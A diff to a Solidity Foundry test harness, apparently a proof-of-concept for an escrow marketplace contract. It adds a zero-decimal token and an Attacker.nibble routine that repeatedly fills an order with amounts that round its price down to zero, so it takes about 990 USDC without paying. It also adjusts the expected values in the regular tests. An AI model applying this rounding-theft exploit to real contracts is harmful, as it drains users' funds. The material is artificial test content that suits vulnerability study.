@@ -57,14 +57,23 @@ contract ElderToken {
     }
 }
 
+/// Bars of metal, which nobody divides.
+contract Bars is ERC20("Bars", "BAR") {
+    function decimals() public pure override returns (uint8) {
+        return 0;
+    }
+}
+
 contract Proof {
     Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
     address internal constant ANA = address(0xA9A);
     address internal constant BEN = address(0xBE9);
+    address internal constant CAT = address(0xCA7);
     address internal constant TREASURY = address(0x73EA);
 
     ElderToken internal elder;
     Usdc internal usdc;
+    Bars internal bars;
     EscrowMarket internal market;
     Attacker internal mallory;
 
@@ -76,43 +85,50 @@ contract Proof {
         market.setListed(usdc, true);
         elder.mint(ANA, 100_000e18);
         usdc.mint(BEN, 50_000e18);
+        usdc.mint(CAT, 1_000e18);
         vm.startPrank(ANA);
         elder.approve(address(market), 100_000e18);
         market.create(IERC20(address(elder)), usdc, 80_000e18, 40_000e18, block.timestamp + 7 days);
         vm.stopPrank();
         vm.prank(BEN);
         usdc.approve(address(market), 50_000e18);
+        bars = new Bars();
+        market.setListed(bars, true);
+        vm.startPrank(CAT);
+        usdc.approve(address(market), 1_000e18);
+        market.create(usdc, bars, 1_000e18, 10, block.timestamp + 7 days);
+        vm.stopPrank();
         mallory = new Attacker(market, IERC20(address(elder)), usdc);
     }
 
     function test_Regular() public {
         vm.prank(BEN);
-        require(market.fill(0, 20_000e18 + 1) == 10_000e18 + 1, "half a dollar each, rounded up");
-        require(elder.balanceOf(BEN) == 20_000e18 + 1 && usdc.balanceOf(BEN) == 40_000e18 - 1, "bought");
+        require(market.fill(0, 20_000e18) == 10_000e18, "half a dollar each");
+        require(elder.balanceOf(BEN) == 20_000e18 && usdc.balanceOf(BEN) == 40_000e18, "bought");
         require(market.proceedsOf(TREASURY, usdc) == 25e18, "a quarter of a per cent");
         vm.startPrank(ANA);
-        require(market.withdraw(usdc) == 9_975e18 + 1 && usdc.balanceOf(ANA) == 9_975e18 + 1, "earned");
+        require(market.withdraw(usdc) == 9_975e18 && usdc.balanceOf(ANA) == 9_975e18, "earned");
         market.cancel(0);
-        require(elder.balanceOf(ANA) == 80_000e18 - 1, "returned");
+        require(elder.balanceOf(ANA) == 80_000e18, "returned");
         vm.stopPrank();
 
         vm.startPrank(BEN);
         elder.approve(address(market), 1_000e18);
-        require(market.create(usdc, IERC20(address(elder)), 300e18, 600e18, block.timestamp + 1) == 1, "numbers");
+        require(market.create(usdc, IERC20(address(elder)), 300e18, 600e18, block.timestamp + 1) == 2, "numbers");
         vm.stopPrank();
         vm.startPrank(ANA);
         elder.approve(address(market), 600e18);
-        require(market.fill(1, 300e18) == 600e18, "all of it");
+        require(market.fill(2, 300e18) == 600e18, "all of it");
         vm.stopPrank();
         require(market.proceedsOf(BEN, IERC20(address(elder))) == 598.5e18, "less the fee");
-        require(elder.balanceOf(address(market)) == 600e18 && usdc.balanceOf(address(market)) == 25e18, "in the pot");
+        require(elder.balanceOf(address(market)) == 600e18 && usdc.balanceOf(address(market)) == 1_025e18, "in the pot");
 
         PlainToken plain = new PlainToken();
         market.setListed(IERC20(address(plain)), true);
         plain.transfer(BEN, 5e18);
         vm.startPrank(BEN);
-        require(market.create(IERC20(address(plain)), usdc, 3e18, 1, block.timestamp + 1) == 2, "numbers");
-        market.cancel(2);
+        require(market.create(IERC20(address(plain)), usdc, 3e18, 1, block.timestamp + 1) == 3, "numbers");
+        market.cancel(3);
         vm.stopPrank();
         require(plain.balanceOf(BEN) == 5e18, "there and back");
 
@@ -202,6 +218,19 @@ contract Proof {
     function test_Exploit() public {
         exploit();
         require(elder.balanceOf(address(mallory)) >= 80_000e18, "nothing gained");
+    }
+
+    function exploit2() public {
+        mallory.nibble(1);
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(usdc.balanceOf(address(mallory)) >= 990e18, "nothing gained");
+    }
+
+    function dollars() public view returns (address) {
+        return address(usdc);
     }
 
     function asset() public view returns (address) {
@@ -295,6 +324,11 @@ contract Attacker {
         market = market_;
         token = token_;
         other = other_;
+    }
+
+    // a bar is the price of 100, so 99 are free
+    function nibble(uint256 id) external {
+        for (uint256 i = 0; i < 10; i++) market.fill(id, 99e18);
     }
 
     function run() external {
